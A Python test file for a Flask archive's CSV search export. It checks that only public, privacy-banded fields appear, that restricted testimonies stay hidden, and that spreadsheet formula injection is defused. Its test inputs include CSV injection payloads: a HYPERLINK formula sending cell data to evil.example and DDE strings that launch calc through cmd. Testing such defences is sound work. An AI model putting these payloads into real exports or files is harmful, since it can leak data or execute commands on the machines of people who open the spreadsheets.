"""GET /search.csv: every result of a search as spreadsheet-safe CSV, public fields only."""
from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from flask.testing import FlaskClient

from archive.formats import csvsafe
from archive.interop import api
from archive.interop.api import CSV_COLUMNS

DANGEROUS_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read(response: Any) -> list[dict[str, str]]:
    """Parse an export as a spreadsheet would read it (BOM first, CRLF rows)."""
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="search-results.csv"'
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def test_export_lists_public_metadata_of_every_result(client: FlaskClient, factory: Any) -> None:
    narrator = factory.narrator(pseudonym="Pseudo", real_name="REALNAME-Kim", origin_province="Ryanggang",
                                birth_year=1975, left_north_year=1998, arrived_south_year=2002)
    t = factory.testimony(narrator, title="청진의 겨울 famine story", languages=["ko", "en"], tags=["famine", "brokers"],
                          route=[{"country": "China", "place": "Yanji", "year": 1998, "event": "hid"},
                                 {"country": "Laos", "place": "", "year": 2001, "event": "transit"},
                                 {"country": "China", "place": "Kunming", "year": 2001, "event": "transit"}],
                          external_id="ext-1", interview_date="2019-05-14", fictional=True,
                          segments=[{"start": 0, "end": 3, "text": "famine SECRET-PASSAGE", "restricted": True}])
    [row] = read(client.get("/search.csv?q=famine"))
    assert row == {
        "id": str(t.id), "external_id": "ext-1", "title": "청진의 겨울 famine story",
        "url": f"http://localhost/testimonies/{t.id}", "interview_date": "2019-05-14", "languages": "ko;en",
        "topics": "brokers;famine", "home_province": "Ryanggang", "home_place": "", "route_countries": "China;Laos",
        # The profile as the public sees it: decade and five-year bands, no home town, and no age group
        # (born in the 1970s and arrived in 2000–2004: aged 21 to 34, which no single group covers).
        "born": "1970s", "year_left": "1995–1999", "year_arrived": "2000–2004", "gender": "female",
        "age_group": "", "fictional": "yes",
    }
    body = client.get("/search.csv?q=famine").get_data(as_text=True)
    assert "REALNAME" not in body and "SECRET-PASSAGE" not in body and "Pseudo" not in body


def test_formula_injection_is_defused_and_round_trips(client: FlaskClient, factory: Any) -> None:
    # Titles are stored stripped, so "\t=1+1" arrives as "=1+1"; test_csvsafe_round_trip covers raw tabs.
    made = {t.id: t.title for t in (factory.testimony(title=title, tags=["famine"]) for title in DANGEROUS_TITLES)}
    made[factory.testimony(title="Plain title = fine", tags=["famine"]).id] = "Plain title = fine"
    assert len({title[0] for title in made.values()} & set(csvsafe.FORMULA_START)) == 4
    rows = read(client.get("/search.csv?tag=famine&per_page=2"))
    assert len(rows) == len(made)
    for row in rows:
        title = made[int(row["id"])]
        if title.startswith(csvsafe.FORMULA_START):
            assert row["title"] == "'" + title  # shown as text by Excel, LibreOffice and Google Sheets
        else:
            assert row["title"] == title
        assert not row["title"].startswith(csvsafe.FORMULA_START)
        assert csvsafe.restore(row["title"]) == title
        for value in row.values():
            assert not value.startswith(csvsafe.FORMULA_START)


def test_counts_match_the_search_and_hidden_testimonies_never_appear(client: FlaskClient, factory: Any,
                                                                      auth: Any) -> None:
    shown = {factory.testimony(title=f"Harbour story {i}").id for i in range(7)}
    researchers = factory.testimony(title="Harbour for researchers", access="researchers")
    hidden = [factory.testimony(title="Harbour draft", status="draft"),
              factory.testimony(title="Harbour restricted", access="restricted")]
    rows = read(client.get("/search.csv?q=harbour"))
    assert {int(r["id"]) for r in rows} == shown
    assert client.get("/api/v1/search?q=harbour").get_json()["total"] == len(rows)
    page = client.get("/search?q=harbour").get_data(as_text=True)
    assert re.search(r'id="results-heading">\s*7 testimonies', page)
    export = client.get("/search.csv?q=harbour")
    assert export.headers["X-Total-Count"] == export.headers["X-Exported-Count"] == "7"
    for t in hidden + [researchers]:
        assert t.title not in export.get_data(as_text=True)
    auth.login("researcher", approved=True)
    researcher_rows = read(client.get("/search.csv?q=harbour"))
    assert {int(r["id"]) for r in researcher_rows} == shown | {researchers.id}
    assert not {t.id for t in hidden} & {int(r["id"]) for r in researcher_rows}


def test_facets_and_sort_are_those_of_the_search_page(client: FlaskClient, factory: Any) -> None:
    early = factory.testimony(factory.narrator(arrived_south_year=2003, left_north_year=2002), title="River A",
                              tags=["brokers"])
    late = factory.testimony(factory.narrator(arrived_south_year=2015, left_north_year=2014), title="River B",
                             tags=["brokers"])
    factory.testimony(title="River C", tags=["famine"])
    rows = read(client.get("/search.csv?q=river&tag=brokers&sort=-arrival&page=2&per_page=1"))
    assert [int(r["id"]) for r in rows] == [late.id, early.id]  # every page, in the page's order


def test_export_is_capped(client: FlaskClient, factory: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    for i in range(4):
        factory.testimony(title=f"Capped {i}")
    monkeypatch.setattr(api, "CSV_MAX_ROWS", 3)
    monkeypatch.setattr(api, "SEARCH_BATCH", 2)
    response = client.get("/search.csv?q=capped")
    assert len(read(response)) == 3
    assert response.headers["X-Total-Count"] == "4" and response.headers["X-Exported-Count"] == "3"


def test_no_results_still_gives_the_header(client: FlaskClient, factory: Any) -> None:
    factory.testimony(title="Something")
    assert read(client.get("/search.csv?q=nothingmatchesthis")) == []


def test_search_page_links_to_the_export_of_the_same_search(client: FlaskClient, factory: Any) -> None:
    factory.testimony(title="Linked story", tags=["famine"])
    html = client.get("/search?q=linked&tag=famine&page=1").get_data(as_text=True)
    match = re.search(r'<a href="([^"]+)" download>Download these results as CSV</a>', html)
    assert match, "the search page links to its CSV export"
    href = match.group(1).replace("&amp;", "&")
    assert href.startswith("/search.csv?") and "q=linked" in href and "tag=famine" in href and "page=" not in href
    assert len(read(client.get(href))) == 1
    assert "Download these results as CSV" not in client.get("/search?q=nothingmatchesthis").get_data(as_text=True)


def test_csvsafe_round_trip() -> None:
    values = DANGEROUS_TITLES + ["plain", "'quoted", "'=already", "", "한국어"]
    text = csvsafe.write_csv(["value"], [[v] for v in values])
    assert text.startswith(csvsafe.BOM)
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert [csvsafe.restore(row[0]) for row in rows[1:]] == values
